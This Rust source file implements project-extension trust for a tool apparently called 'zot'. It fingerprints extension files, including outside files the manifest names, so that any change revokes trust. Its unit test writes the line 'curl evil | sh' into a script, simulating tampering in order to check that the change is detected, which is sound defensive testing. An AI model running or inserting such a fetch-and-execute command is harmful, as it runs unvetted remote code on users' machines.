//! Project trust, like `direnv allow`: an extension found in a project's
//! `.zot/extensions` runs only once the user has trusted that project's extensions, and
//! only as long as not one of its files has changed since.
//!
//! The record is `$ZOT_HOME/trust/<project key>.json` (outside the project, so a
//! repository cannot trust itself): the project's real path and, per extension folder,
//! the SHA-256 of every file in it (what links point to inside it, not their text; one
//! leading out of it, or a FIFO, device or socket, makes the folder untrustable) and of
//! every file outside it that its manifest names (the program, a component, an argument
//! that is a file). A new extension, or any changed, added or removed file, is untrusted
//! until trusted again.

use crate::manifest::{Launch, Manifest};
use crate::paths::ZotHome;
use crate::util::tree::{hash_tree, sha256_file, Links, TreeError};
use serde::{Deserialize, Serialize};
use std::collections::BTreeMap;
use std::fmt;
use std::path::{Path, PathBuf};

/// Whether a project extension may run, and if not, why and how to trust it.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Untrusted {
    /// The project's real path.
    #[serde(serialize_with = "crate::paths::serialize_lossy")]
    pub project: PathBuf,
    #[serde(flatten)]
    pub why: Why,
    /// The command that shows it and trusts it: `zot ext trust '<project>'`.
    pub command: String,
}

/// Why a project extension is untrusted.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
#[serde(tag = "why", rename_all = "snake_case")]
pub enum Why {
    /// Never trusted (the project, or this extension of it).
    New,
    /// Files changed, added or removed since it was trusted.
    Changed { files: Vec<String> },
    /// Its files (or the trust record) could not be read.
    Unreadable { error: String },
}

impl Untrusted {
    fn new(project: &Path, why: Why) -> Untrusted {
        Untrusted {
            project: project.to_path_buf(),
            why,
            command: trust_command(project),
        }
    }

    /// Untrusted because it cannot be checked: `error` says why.
    pub fn unreadable(project: &Path, error: String) -> Untrusted {
        Untrusted::new(project, Why::Unreadable { error })
    }

    /// One line: `untrusted project extension (changed since trusted: index.js): run
    /// `zot ext trust '/p'` to review and trust it`.
    pub fn message(&self) -> String {
        format!(
            "untrusted project extension ({}): run `{}` to review and trust it",
            self.why, self.command
        )
    }
}

impl fmt::Display for Why {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Why::New => write!(f, "not trusted yet"),
            Why::Changed { files } => {
                let shown: Vec<&str> = files.iter().take(5).map(String::as_str).collect();
                write!(f, "changed since trusted: {}", shown.join(", "))?;
                if files.len() > shown.len() {
                    write!(f, " and {} more", files.len() - shown.len())?;
                }
                Ok(())
            }
            Why::Unreadable { error } => write!(f, "cannot be checked: {error}"),
        }
    }
}

/// `zot ext trust '<project>'`.
pub fn trust_command(project: &Path) -> String {
    format!("zot ext trust '{}'", project.display())
}

/// Why trust could not be recorded or read.
#[derive(Debug)]
pub enum TrustError {
    /// A file of an extension could not be read.
    Tree(TreeError),
    /// The trust record could not be written or removed.
    Record {
        path: PathBuf,
        cause: std::io::Error,
    },
}

impl fmt::Display for TrustError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            TrustError::Tree(e) => e.fmt(f),
            TrustError::Record { path, cause } => {
                write!(
                    f,
                    "cannot update the trust record {}: {cause}",
                    path.display()
                )
            }
        }
    }
}

impl std::error::Error for TrustError {}

/// The trust record of one project.
#[derive(Debug, Default, Serialize, Deserialize)]
struct Record {
    project: PathBuf,
    /// By extension folder name.
    #[serde(default)]
    extensions: BTreeMap<String, Trusted>,
}

/// One trusted extension folder.
#[derive(Debug, Serialize, Deserialize)]
struct Trusted {
    trusted_at: String,
    /// What [`fingerprint`] gave when it was trusted.
    files: Fingerprint,
}

/// One project extension to trust: its folder's name, the folder, and its manifest when
/// it can be read (for the files outside the folder that it names).
pub struct ProjectExtension<'a> {
    pub dir_name: &'a str,
    pub dir: &'a Path,
    pub manifest: Option<&'a Manifest>,
}

/// Hex SHA-256 of each file of an extension, by its path inside the extension's folder
/// (`/`-separated) or `outside:<real path>`.
pub type Fingerprint = BTreeMap<String, String>;

/// The SHA-256 of every file of the extension in `dir` (links followed inside it; one
/// leading out of it, or a file that is not a regular one, is an error) and, keyed
/// `outside:<real path>`, of each file outside `dir` that `manifest` names.
pub fn fingerprint(dir: &Path, manifest: Option<&Manifest>) -> Result<Fingerprint, TreeError> {
    let mut files = hash_tree(dir, Links::Follow)?;
    let Some(m) = manifest else {
        return Ok(files);
    };
    let inside = crate::paths::real(dir);
    // A remote MCP server names no file: its manifest is in the tree above; a
    // `${file:…}` of its headers is a secret that rotates, not bound.
    let mut named: Vec<std::path::PathBuf> = match m.launch(dir) {
        Launch::Wasm(path) | Launch::Exec(path) => vec![path],
        Launch::Remote(_) => Vec::new(),
    };
    named.extend(m.program_args().iter().map(|a| dir.join(a)));
    for path in named {
        let real = crate::paths::real(&path);
        if real.starts_with(&inside) {
            continue;
        }
        // A regular file is bound; a FIFO, device or socket is refused (read without
        // blocking, checked through its handle); a folder or nothing is not a file.
        match std::fs::metadata(&real) {
            Ok(meta) if meta.is_dir() => {}
            Ok(_) => {
                files.insert(format!("outside:{}", real.display()), sha256_file(&real)?);
            }
            Err(_) => {}
        }
    }
    Ok(files)
}

/// One SHA-256 of a [`fingerprint`]: what a confined classic extension's grant is bound
/// to (`super::grants::classic_files`).
pub fn digest_of(files: &Fingerprint) -> String {
    use sha2::{Digest, Sha256};
    let mut hasher = Sha256::new();
    for (file, sha) in files {
        hasher.update(file.as_bytes());
        hasher.update([0]);
        hasher.update(sha.as_bytes());
        hasher.update([b'\n']);
    }
    format!("{:x}", hasher.finalize())
}

/// Whether the extension in `dir` (folder `dir_name` of `project`'s `.zot/extensions`)
/// is trusted as it is now: the fingerprint found the same as the one trusted.
pub fn check(
    home: &ZotHome,
    project: &Path,
    ext: &ProjectExtension<'_>,
) -> Result<Fingerprint, Untrusted> {
    let untrusted = |why| Untrusted::new(project, why);
    let record = load(home, project).map_err(|e| {
        untrusted(Why::Unreadable {
            error: e.to_string(),
        })
    })?;
    let Some(trusted) = record.extensions.get(ext.dir_name) else {
        return Err(untrusted(Why::New));
    };
    let now = fingerprint(ext.dir, ext.manifest).map_err(|e| {
        untrusted(Why::Unreadable {
            error: e.to_string(),
        })
    })?;
    let changed = differences(&trusted.files, &now);
    if changed.is_empty() {
        Ok(now)
    } else {
        Err(untrusted(Why::Changed { files: changed }))
    }
}

/// Paths whose hash differs, was added or was removed, sorted.
fn differences(then: &Fingerprint, now: &Fingerprint) -> Vec<String> {
    let mut changed: Vec<String> = then
        .iter()
        .filter(|(path, hash)| now.get(*path) != Some(hash))
        .map(|(path, _)| path.clone())
        .chain(now.keys().filter(|p| !then.contains_key(*p)).cloned())
        .collect();
    changed.sort();
    changed
}

/// Trusts `extensions` of `project` as they are now; with `all`, they are the project's
/// whole set and every other folder's trust is dropped.
pub fn trust(
    home: &ZotHome,
    project: &Path,
    extensions: &[ProjectExtension<'_>],
    all: bool,
) -> Result<(), TrustError> {
    let mut record = load(home, project).unwrap_or_default();
    record.project = project.to_path_buf();
    if all {
        record.extensions.clear();
    }
    let trusted_at = humantime::format_rfc3339_seconds(std::time::SystemTime::now()).to_string();
    for ext in extensions {
        let files = fingerprint(ext.dir, ext.manifest).map_err(TrustError::Tree)?;
        record.extensions.insert(
            ext.dir_name.to_string(),
            Trusted {
                trusted_at: trusted_at.clone(),
                files,
            },
        );
    }
    save(home, project, &record)
}

/// Forgets the trust of `project`'s extension folder `only`, or of all of them; true if
/// something was trusted.
pub fn untrust(home: &ZotHome, project: &Path, only: Option<&str>) -> Result<bool, TrustError> {
    let path = record_path(home, project);
    // A damaged record trusts nothing: it is replaced or removed.
    let mut record = load(home, project).unwrap_or_default();
    let had = match only {
        Some(dir_name) => record.extensions.remove(dir_name).is_some(),
        None => !std::mem::take(&mut record.extensions).is_empty(),
    };
    if record.extensions.is_empty() {
        match std::fs::remove_file(&path) {
            Err(e) if e.kind() != std::io::ErrorKind::NotFound => {
                return Err(TrustError::Record { path, cause: e })
            }
            _ => {}
        }
    } else {
        save(home, project, &record)?;
    }
    Ok(had)
}

/// `$ZOT_HOME/trust/<project key>.json`.
fn record_path(home: &ZotHome, project: &Path) -> PathBuf {
    home.trust_dir()
        .join(format!("{}.json", crate::identity::project_key(project)))
}

/// The record of `project`; none recorded: an empty one. A record made for another path
/// (a key collision, or a hand-edited file) trusts nothing.
fn load(home: &ZotHome, project: &Path) -> Result<Record, String> {
    let path = record_path(home, project);
    let record: Record = match std::fs::read(&path) {
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => return Ok(Record::default()),
        Err(e) => return Err(format!("cannot read {}: {e}", path.display())),
        Ok(bytes) => serde_json::from_slice(&bytes)
            .map_err(|e| format!("{} is damaged: {e}", path.display()))?,
    };
    if record.project != project {
        return Ok(Record::default());
    }
    Ok(record)
}

fn save(home: &ZotHome, project: &Path, record: &Record) -> Result<(), TrustError> {
    let path = record_path(home, project);
    let mut text = serde_json::to_vec_pretty(record).map_err(|e| TrustError::Record {
        path: path.clone(),
        cause: std::io::Error::other(e),
    })?;
    text.push(b'\n');
    crate::paths::write_atomic(&path, &text).map_err(|cause| TrustError::Record { path, cause })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn trust_binds_every_file_and_what_the_manifest_names_outside() {
        let root = crate::paths::real(&std::env::temp_dir())
            .join(format!("zot-trust-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&root);
        let home = ZotHome::new(root.join("home"));
        let project = root.join("proj");
        let dir = project.join(".zot/extensions/x");
        std::fs::create_dir_all(&dir).unwrap();
        std::fs::write(project.join("run.sh"), "echo hi").unwrap();
        let body = r#"{"name":"x","exec":"sh","args":["../../../run.sh"]}"#;
        std::fs::write(dir.join("extension.json"), body).unwrap();
        let m = Manifest::read(&dir).unwrap();
        let ext = ProjectExtension {
            dir_name: "x",
            dir: &dir,
            manifest: Some(&m),
        };
        let why = |r: Result<Fingerprint, Untrusted>| r.unwrap_err().why;

        assert_eq!(why(check(&home, &project, &ext)), Why::New);
        trust(&home, &project, &[ext], true).unwrap();
        let ext = ProjectExtension {
            dir_name: "x",
            dir: &dir,
            manifest: Some(&m),
        };
        assert_eq!(
            check(&home, &project, &ext).ok(),
            fingerprint(&dir, Some(&m)).ok()
        );
        // A file outside the folder that the manifest names is bound too.
        std::fs::write(project.join("run.sh"), "curl evil | sh").unwrap();
        let outside = format!("outside:{}", project.join("run.sh").display());
        assert_eq!(
            why(check(&home, &project, &ext)),
            Why::Changed {
                files: vec![outside]
            }
        );
        std::fs::write(project.join("run.sh"), "echo hi").unwrap();
        std::fs::write(dir.join("new.js"), "").unwrap();
        assert_eq!(
            why(check(&home, &project, &ext)),
            Why::Changed {
                files: vec!["new.js".into()]
            }
        );
        // Another project's record does not count for this one.
        let other = root.join("other");
        assert_eq!(why(check(&home, &other, &ext)), Why::New);
        assert!(untrust(&home, &project, None).unwrap());
        assert!(!untrust(&home, &project, None).unwrap());
        std::fs::remove_dir_all(&root).unwrap();
    }
}
